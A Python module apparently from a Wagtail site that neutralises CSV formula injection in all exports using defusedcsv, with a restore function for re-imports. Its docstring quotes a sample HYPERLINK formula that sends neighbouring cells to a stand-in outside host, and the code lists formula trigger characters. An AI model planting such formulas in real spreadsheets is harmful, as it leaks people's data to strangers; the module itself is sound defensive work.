"""The one CSV writer of the site: no cell of a file we write runs as a formula.

Spreadsheet programs (Excel, LibreOffice, Google Sheets) read a CSV cell that
starts with ``=``, ``+``, ``-`` or ``@`` as a formula, so a registrant named
``=HYPERLINK("https://x.example/?"&C2&D2,"Details")`` would send the next
columns of the file to a stranger when a coordinator clicks the cell (CSV
injection). Every CSV the site writes (admin exports of registrations, print
requests and reports, the translation status, the open data and the competence
frameworks) therefore goes through `writer` here, or through
`SafeSpreadsheetExportMixin` for Wagtail's admin exports, which uses it.

What is changed, following OWASP's "CSV Injection" advice:

- defusedcsv (a maintained library) prefixes a single quote to text starting
  with ``=``, ``+``, ``-``, ``@``, ``|`` or ``%``, and then writes ``|`` as ``\\|``
  in that cell (``|`` starts DDE links in old Excel). The quote is what makes the
  spreadsheet show the cell as text.
- Plain values stay readable: numbers (``-3``, ``-1.5``, ``1,234``) are written
  as they are, and so is any text that is only a number (``"-3"``); dates
  (``2026-05-01``) and times do not start with a sign and are never touched.
- OWASP also names a leading tab and carriage return, which defusedcsv 3.0
  leaves alone: this module prefixes the same quote to them.

`restore` undoes the quoting when a file written here is imported again (the
competence frameworks' CSV is both an export and an import format). XLSX
exports need none of this: Wagtail stores every cell of them as text.
"""

from numbers import Number

from defusedcsv import csv as defusedcsv

# The characters after which `writer` adds a quote: defusedcsv's, then OWASP's two it leaves alone.
DEFUSEDCSV_TRIGGERS = ("=", "+", "-", "@", "|", "%")
WHITESPACE_TRIGGERS = ("\t", "\r")
# defusedcsv escapes every pipe of a neutralised cell, the leading one too: "|x" is written "'\\|x".
ESCAPED_PIPE_START = "'\\|"


def _guard_whitespace(cell):
    if cell is None or isinstance(cell, Number):
        return cell
    text = str(cell)
    if text.startswith(WHITESPACE_TRIGGERS):
        return "'" + text
    return text


class _Writer:
    """A csv writer whose every cell is neutralised; `writerow` returns what the stream's write returns."""

    def __init__(self, inner):
        self._inner = inner

    def writerow(self, row):
        return self._inner.writerow([_guard_whitespace(cell) for cell in row])

    def writerows(self, rows):
        for row in rows:
            self.writerow(row)


def writer(stream, dialect="excel", **params):
    """Like `csv.writer`, with every cell neutralised (see the module docstring)."""
    return _Writer(defusedcsv.writer(stream, dialect, **params))


class Echo:
    """A file-like object whose `write` gives the line back, to stream rows into a response."""

    def write(self, value):
        return value


def restore(value):
    """The value a cell held before `writer` neutralised it (for importing a file written here).

    A text that itself started with a quote followed by one of those characters (or by
    a backslash and a pipe, as a leading pipe is written) cannot be told apart and loses
    its quote; in a neutralised cell, a backslash the text had before a pipe is lost.
    """
    if not value or value[0] != "'" or len(value) < 2:
        return value
    if value[1] in WHITESPACE_TRIGGERS:
        return value[1:]
    if value[1] in DEFUSEDCSV_TRIGGERS or value.startswith(ESCAPED_PIPE_START):
        return value[1:].replace("\\|", "|")
    return value


class SafeSpreadsheetExportMixin:
    """Mix into a Wagtail admin view with CSV export (an IndexView, a ReportView) before
    Wagtail's classes: its CSV is written by `writer`. The XLSX export is Wagtail's own."""

    def stream_csv(self, queryset):
        out = writer(Echo())
        yield out.writerow([self.get_heading(queryset, field) for field in self.list_export])
        for item in queryset:
            row = self.to_row_dict(item)
            yield out.writerow([self.preprocess_field_value(field, row[field], self.FORMAT_CSV) for field in row])
